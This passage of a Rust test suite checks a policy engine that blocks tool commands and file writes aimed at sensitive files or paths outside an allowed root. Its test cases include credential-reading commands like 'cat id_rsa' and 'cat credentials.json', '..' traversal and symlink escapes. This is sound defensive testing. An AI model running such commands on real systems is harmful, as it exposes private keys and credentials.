        ),
        &MemFs::new(),
    );
    let all = format!("{} {:?} {} {:?}", d.explain, d.subject, d.details, d.error);
    assert!(!all.contains("ghp_abcdefghij"), "{all}");
}

/// Command words that are not path-like still name files relative to the cwd: sensitive
/// files and symlinks out must not pass; long prose arguments are no false `invalid_path`.
#[test]
fn bare_command_words() {
    let base = Path::new("/t");
    let set = PolicySet::compile(&opts(json!({})), ctx(base)).unwrap();
    let fs = mem_fs("/t");
    let tool = command_run();
    let long = format!("fix: {} in a/b", "word ".repeat(80));
    let rows: Vec<(Value, &str)> = vec![
        (json!({"argv": ["cat", "id_rsa"]}), "sensitive_path_denied"),
        (json!({"argv": ["cat", "file_link"]}), "outside_root"),
        (
            json!({"cwd": "keys", "argv": ["cat", "server.PEM"]}),
            "sensitive_path_denied",
        ),
        (
            json!({"command": "cat credentials.json"}),
            "sensitive_path_denied",
        ),
        (
            json!({"argv": ["cat", "a=../outside/secret.txt"]}),
            "outside_root",
        ),
        (json!({"argv": ["git", "commit", "-m", long]}), "allowed"),
        (json!({"argv": ["git", "status", "--short"]}), "allowed"),
        (
            json!({"argv": ["cargo", "test", "-p", "codeward-policies", "credentials"]}),
            "allowed",
        ),
        (json!({"command": "FOO=bar make -j2 all"}), "allowed"),
    ];
    run_table("bare words", &set, &tool, &fs, &rows);
}

/// The root as given may be a symlink to the canonical root: both are "inside", and `..`
/// through it is judged where the kernel lands.
#[test]
fn given_root_through_a_symlink() {
    let (_dir, base) = real_fs();
    std::os::unix::fs::symlink(base.join("root"), base.join("link_root")).unwrap();
    let mut c = ctx(&base);
    c.given_root = base.join("link_root");
    let set = PolicySet::compile(&opts(json!({})), c).unwrap();
    let b = base.display();
    let cases = [
        (format!("{b}/link_root/src/main.rs"), "allowed"),
        (format!("{b}/link_root/new.txt"), "allowed"),
        (
            format!("{b}/link_root/../outside/secret.txt"),
            "outside_root",
        ),
        (format!("{b}/link_root/link_out/secret.txt"), "outside_root"),
        (format!("{b}/link_root/.env"), "sensitive_path_denied"),
        (
            format!("{b}/link_root/.codeward/state/x"),
            "sensitive_path_denied",
        ),
    ];
    for (raw, want) in cases {
        let got = match set.check_path(&raw, Access::Write, None, None, &RealFs) {
            Ok(_) => "allowed",
            Err(e) => e.code(),
        };
        assert_eq!(got, want, "{raw}");
    }
}
